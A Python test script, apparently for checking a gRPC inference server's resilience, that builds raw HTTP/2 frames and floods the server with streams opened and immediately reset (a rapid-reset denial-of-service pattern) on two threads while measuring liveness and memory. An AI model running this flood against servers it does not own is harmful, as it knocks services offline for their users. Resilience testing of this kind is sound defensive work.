"""HTTP/2 by raw frames over sockets, and what a hostile client does with them.

As a program: python3 tests/http2_attack.py ADDRESS:PORT PID [SECONDS] resets streams on two connections in a loop, asks for
the server's health on another, and prints the resident memory of process PID."""

import pathlib
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
INFER, LIVE = "/inference.GRPCInferenceService/ModelInfer", "/inference.GRPCInferenceService/ServerLive"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header of HPACK that is not added to the table; for values below 127 bytes."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request_headers(path, *more):
    # Entries of the static table: 0x83 is ":method: POST", 0x86 ":scheme: http".
    headers = [(":path", path), (":authority", "attack"), ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"\x83\x86" + b"".join(literal(*header) for header in headers)


def message(payload=b"", compressed=0):
    return struct.pack(">BI", compressed, len(payload)) + payload


class Connection:
    """A client that has sent its preface. `recv` returns one frame, None at the end of the connection."""

    def __init__(self, address, settings=b"", timeout=60):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=timeout)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer = b""
        self.next_stream = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        self.socket.sendall(data)

    def close(self):
        self.socket.close()

    def recv(self):
        try:
            while len(self.buffer) < 9 or len(self.buffer) < 9 + self.length():
                got = self.socket.recv(65536)
                if not got:
                    return None
                self.buffer += got
        except ConnectionError:
            return None
        kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
        payload = self.buffer[9:9 + self.length()]
        self.buffer = self.buffer[9 + len(payload):]
        return kind, flags, stream, payload

    def length(self):
        return int.from_bytes(self.buffer[:3], "big")

    def call(self, path, request=b"", headers=()):
        """The messages of the answer, without their prefixes; None if the connection or the stream ended without trailers."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.send(frame(HEADERS, END_HEADERS, stream, request_headers(path, *headers)) +
                  frame(DATA, END_STREAM, stream, message(request)))
        body = b""
        while got := self.recv():
            kind, flags, of, payload = got
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY or (kind == RST_STREAM and of == stream):
                return None
            elif kind == DATA and of == stream:
                body += payload
            if kind in (DATA, HEADERS) and of == stream and flags & END_STREAM:
                return body[5:]
        return None


def is_live(address, timeout=60):
    """Asks ServerLive on a connection of its own; the seconds until the answer, None without one."""
    begin = time.monotonic()
    try:
        connection = Connection(address, timeout=timeout)
        answer = connection.call(LIVE)
        connection.close()
    except OSError:
        return None
    return time.monotonic() - begin if answer == b"\x08\x01" else None


def reset_streams(address, count, stop=lambda: False, block=1000):
    """Opens and resets `count` streams, with a new connection wherever the server closes one; how many were sent, and on how
    many connections."""
    headers = request_headers(INFER)
    head = bytearray(frame(HEADERS, END_HEADERS, 0, headers))
    reset = bytearray(frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL)))
    sent = connections = 0
    while sent < count and not stop():
        try:
            connection = Connection(address, timeout=5)
            connections += 1
            stream = 1
            while sent < count and not stop() and stream < 2**31 - 2 * block:
                parts = []
                for _ in range(min(block, count - sent)):
                    struct.pack_into(">I", head, 5, stream)
                    struct.pack_into(">I", reset, 5, stream)
                    parts.append(bytes(head + reset))
                    stream += 2
                connection.send(b"".join(parts))
                sent += len(parts)
        except OSError:
            pass
        connection.close()
    return sent, connections


def resident_bytes(pid):
    pages = int(pathlib.Path(f"/proc/{pid}/statm").read_text().split()[1])
    return pages * 4096


def main():
    address, pid = sys.argv[1], int(sys.argv[2])
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 10
    end = time.monotonic() + seconds
    results = [None, None]

    def attack(i):
        results[i] = reset_streams(address, 10**9, stop=lambda: time.monotonic() > end)

    print(f"before: {resident_bytes(pid) / 1e6:.1f} MB, live in {is_live(address)}")
    threads = [threading.Thread(target=attack, args=(i,)) for i in range(2)]
    for thread in threads:
        thread.start()
    times, most = [], 0
    while time.monotonic() < end:
        times.append(is_live(address, timeout=5))
        most = max(most, resident_bytes(pid))
        time.sleep(0.1)
    for thread in threads:
        thread.join()
    answered = [t for t in times if t is not None]
    print(f"resets: {sum(r[0] for r in results) / seconds:.0f}/s on {sum(r[1] for r in results)} connections; "
          f"at most {most / 1e6:.1f} MB; live: {len(answered)} of {len(times)} answered, "
          f"slowest {max(answered, default=0) * 1e3:.1f} ms")
    begin = time.monotonic()
    while is_live(address, timeout=5) is None and time.monotonic() < begin + 60:
        pass
    print(f"after: live again after {time.monotonic() - begin:.2f} s, {resident_bytes(pid) / 1e6:.1f} MB")


if __name__ == "__main__":
    main()
